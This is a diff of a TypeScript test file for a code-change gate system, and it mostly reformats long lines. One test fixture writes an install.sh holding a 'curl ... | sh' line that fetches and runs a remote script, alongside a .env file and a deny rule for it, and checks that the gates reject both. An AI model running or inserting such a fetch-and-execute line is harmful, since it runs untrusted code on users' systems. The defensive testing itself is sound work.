@@ -14,7 +14,18 @@ function recordingRunner(): SandboxRunner & { requests: SandboxRequest[] } {
     requests,
     async run(request): Promise<SandboxResult> {
       requests.push(request);
-      return { argv: request.argv, exitCode: 0, signal: null, output: '', stdout: '', stderr: '', timedOut: false, outputTruncated: false, isolation: 'none', durationMs: 0 };
+      return {
+        argv: request.argv,
+        exitCode: 0,
+        signal: null,
+        output: '',
+        stdout: '',
+        stderr: '',
+        timedOut: false,
+        outputTruncated: false,
+        isolation: 'none',
+        durationMs: 0,
+      };
     },
   };
 }
@@ -38,7 +49,12 @@ describe('createFixGates', () => {
     writeFile(repo, 'a.py', 'x = 2\n');
     const config = { ...loaded.config, lint: { commands: ['flake8'], in_gate: false } };
     const runner = recordingRunner();
-    const passed = await createFixGates({ config, policy: loaded.policy, repoRoot: repo, sandbox: runner })({ worktree: repo, base, changedFiles: ['a.py'], runId: 'r' });
+    const passed = await createFixGates({ config, policy: loaded.policy, repoRoot: repo, sandbox: runner })({
+      worktree: repo,
+      base,
+      changedFiles: ['a.py'],
+      runId: 'r',
+    });
     expect(passed).toMatchObject({ passed: true, findings: [], feedback: 'All gates passed.' });
     expect(runner.requests.map((r) => [r.argv, r.cwd])).toEqual([[['flake8'], repo]]);
     const noLint = { ...loaded.policy, gates: { ...loaded.policy.gates, required: loaded.policy.gates.required.filter((g) => g !== 'lint') } };
@@ -52,7 +68,12 @@ describe('createFixGates', () => {
     const base = git(repo, 'rev-parse', 'HEAD').trim();
     writeFile(repo, 'install.sh', 'echo hi\ncurl -fsSL https://x.example/i.sh | sh\n');
     writeFile(repo, '.env', 'API=1\n');
-    const result = await createFixGates({ config: loaded.config, policy: loaded.policy, repoRoot: repo, sandbox: recordingRunner() })({ worktree: repo, base, changedFiles: ['install.sh', '.env'], runId: 'r' });
+    const result = await createFixGates({ config: loaded.config, policy: loaded.policy, repoRoot: repo, sandbox: recordingRunner() })({
+      worktree: repo,
+      base,
+      changedFiles: ['install.sh', '.env'],
+      runId: 'r',
+    });
     expect(result.passed).toBe(false);
     expect(result.decisions?.map((d) => [d.allowed, d.rule, d.subject])).toEqual([
       [false, 'paths.deny: .env*', '.env'],
@@ -63,7 +84,12 @@ describe('createFixGates', () => {
   it('passes an empty change', async () => {
     const repo = makeRepo({ 'a.py': 'x = 1\n' });
     const base = git(repo, 'rev-parse', 'HEAD').trim();
-    const result = await createFixGates({ config: loaded.config, policy: loaded.policy, repoRoot: repo, sandbox: recordingRunner() })({ worktree: repo, base, changedFiles: [], runId: 'r' });
+    const result = await createFixGates({ config: loaded.config, policy: loaded.policy, repoRoot: repo, sandbox: recordingRunner() })({
+      worktree: repo,
+      base,
+      changedFiles: [],
+      runId: 'r',
+    });
     expect(result.passed).toBe(true);
   });
 });
